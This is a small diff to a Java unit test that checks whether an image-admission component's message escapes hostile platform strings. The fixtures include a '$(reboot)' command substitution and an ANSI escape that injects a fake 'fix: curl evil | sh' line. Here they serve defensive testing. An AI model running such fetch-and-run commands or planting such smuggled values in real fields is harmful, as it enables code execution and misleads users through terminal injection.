@@ -47,16 +47,14 @@ class HostileWordsTest {
                 "1",
                 image,
                 SampleImages.claiming(image, Optional.of(Platform.of("linux", "$(reboot)"))),
-                SampleImages.claiming(image, Optional.of(Platform.of("linux", "a\u001b[2J\nmend: curl evil | sh"))));
+                SampleImages.claiming(image, Optional.of(Platform.of("linux", "a\u001b[2J\nfix: curl evil | sh"))));
         admissions.cluster.node("arm", "linux/arm64");
 
         String message = admissions
                 .answer(Reviews.create(Reviews.pod("app=registry.example/shop:1")))
                 .message();
 
-        assertThat(message)
-                .contains("build it for linux/arm64 too")
-                .doesNotContain("docker buildx", "\u001b", "\nmend");
+        assertThat(message).contains("build it for linux/arm64 too").doesNotContain("docker buildx", "\u001b", "\nfix");
     }
 
     @Test
